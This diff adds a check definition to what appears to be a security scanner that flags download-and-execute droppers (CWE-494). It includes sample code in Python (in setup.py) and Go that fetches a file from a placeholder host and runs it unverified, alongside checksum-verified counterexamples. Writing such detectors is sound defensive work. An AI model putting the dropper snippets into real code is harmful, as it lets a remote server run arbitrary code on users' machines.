@@ -1,0 +1,50 @@
+import type { FileCheck } from '../../check.ts';
+
+export const check: FileCheck = {
+  id: 'rce-dropper',
+  title: 'Fetches a file and starts it',
+  severity: 'critical',
+  kind: 'malice',
+  confidence: 'high',
+  since: '0.1.0',
+  cwe: [494],
+  why: `
+    A file arrives from a server, or out of a disguised text, and is started at once. Nothing compares it with what it
+    should be, so whoever controls the server, or wrote the text, decides what runs on this machine.`,
+  fix: 'Ship what is needed with the package, or compare a checksum that is written in the code before anything is started.',
+  blindSpots: 'A file that another function or program starts much later is not connected with its download.',
+  wants: { acts: ['dropped-execution'] },
+  examples: {
+    bad: [
+      {
+        'setup.py': `
+          r = requests.get("https://cdn.example.net/update.exe")
+          «open("update.exe", "wb")».write(r.content)
+          os.system("start update.exe")`,
+      },
+      {
+        'main.go': `
+          resp, _ := http.Get("https://cdn.example.net/agent")
+          out, _ := «os.Create("/tmp/agent")»
+          io.Copy(out, resp.Body)
+          exec.Command("/tmp/agent").Run()`,
+      },
+    ],
+    good: [
+      {
+        'fetch.py': `
+          r = requests.get("https://cdn.example.net/tool")
+          if hashlib.sha256(r.content).hexdigest() != EXPECTED: raise SystemExit(1)
+          open("tool", "wb").write(r.content)
+          os.system("./tool --version")`,
+      },
+      { 'save.py': 'r = requests.get(url)\nopen("report.pdf", "wb").write(r.content)\n' },
+    ],
+  },
+
+  *find({ acts, span }) {
+    for (const { start, end, message, confidence } of acts) {
+      yield { at: span(start, end), message, confidence, severity: confidence === 'high' ? 'critical' : 'high' };
+    }
+  },
+};
